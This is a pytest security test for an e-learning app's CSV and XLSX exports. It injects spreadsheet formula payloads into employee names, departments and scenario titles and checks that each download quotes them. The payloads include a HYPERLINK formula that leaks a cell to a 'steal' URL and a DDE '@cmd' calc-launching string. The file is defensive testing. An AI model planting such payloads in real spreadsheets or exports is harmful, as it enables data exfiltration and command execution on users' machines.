"""Every CSV and XLSX download neutralises formula injection: no cell a spreadsheet would run.

tests/services/test_exports.py covers the writer itself and tests/hr/test_completions_report.py a
name in the completion report; here payloads go into every kind of text that reaches a download
(names, kana, departments, employment types, the roster's file name in the audit trail, scenario
titles of the content) and every download the app offers is read back.
"""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from elearn.config import PROJECT_ROOT
from elearn.services import submission
from elearn.services.sync import sync_content
from tests.learn.quiz import save_answers
from tests.security.test_escaping import import_roster, roster
from tests.security.world import build_world, client_for

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦")
HYPERLINK = '=HYPERLINK("http://example.com/steal?"&A1,"詳細")'


@pytest.fixture
def formula_titles(app, tmp_path) -> Path:
    """The content with every scenario's title turned into a formula, synced."""
    root = tmp_path / "content"
    for folder in ("courses", "quizzes"):
        shutil.copytree(PROJECT_ROOT / folder, root / folder)
    for bank in (root / "quizzes").glob("*.md"):
        text = bank.read_text(encoding="utf-8")
        if "kind: scenarios" in text:
            bank.write_text(text.replace("\n## ", "\n## =1+"), encoding="utf-8")
    sync_content(root)
    return root


def cells(response) -> list[object]:
    payload = response.get_data()
    response.close()
    if response.mimetype == "text/csv":
        return [cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(payload)).active
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            # A quote-prefixed cell is text; Excel shows it with the quote in the formula bar.
            found.append("'" + cell.value if cell.quotePrefix else cell.value)
    return found


def runnable(values: list[object]) -> list[str]:
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


def activation_codes(hr):
    """Issue codes on the page, then download the CSV it offers with the codes it shows."""
    page = hr.post("/hr/accounts", data={"department": "", "layout": "one"}).get_data(as_text=True)
    codes = re.search(r'<input id="codes" name="codes" type="hidden" value="([^"]*)">', page).group(1)
    return hr.post("/hr/accounts/codes.csv", data={"codes": html.unescape(codes)})


def test_no_download_holds_a_cell_a_spreadsheet_would_run(app, people, formula_titles):
    world = build_world(people)
    hr = client_for(app, world, "hr")
    import_roster(
        hr,
        roster(
            ("E001", HYPERLINK, "+81-3-1234-5678", "@SUM(1+1)課", "-2+3", "a@example.jp"),
            ("E002", "@cmd|'/C calc'!A0", "=1+1", "@SUM(1+1)課", "=1+1", ""),
            ("E003", '＝HYPERLINK("http://example.com")', "＋81", "＠課", "﹦1+1", ""),
        ),
    )
    assert hr.post("/hr/employees/E002/reset").status_code == 200  # E002 now waits for a code
    employee = client_for(app, world, "employee")
    attempt = world.of(world.users["employee"]).open
    save_answers(attempt.id, correct=False)
    submission.submit_attempt(attempt)  # answers for the item analysis
    assert employee.get(f"/attempts/{attempt.id}").status_code == 200

    downloads = {  # one at a time: a download streams until it is read out
        "completions.csv": lambda: hr.get("/hr/reports/completions.csv"),
        "completions.xlsx": lambda: hr.get("/hr/reports/completions.xlsx"),
        "audit.csv": lambda: hr.get("/hr/audit.csv"),
        "activation codes": lambda: activation_codes(hr),
        "items.csv": lambda: hr.get("/analysis/items.csv"),
        "items.xlsx": lambda: hr.get("/analysis/items.xlsx"),
    }
    read = {name: cells(download()) for name, download in downloads.items()}
    assert {name: runnable(values) for name, values in read.items() if runnable(values)} == {}
    quoted = {name for name, values in read.items() if any(str(v).startswith("'") for v in values)}
    # The audit trail's cells start with the app's own words (times, ids, summaries): payloads sit inside.
    assert quoted == set(downloads) - {"audit.csv"}, "each download should have carried a payload, quoted"
    assert any("@cmd|'/C calc'!A0" in str(v) for v in read["audit.csv"])
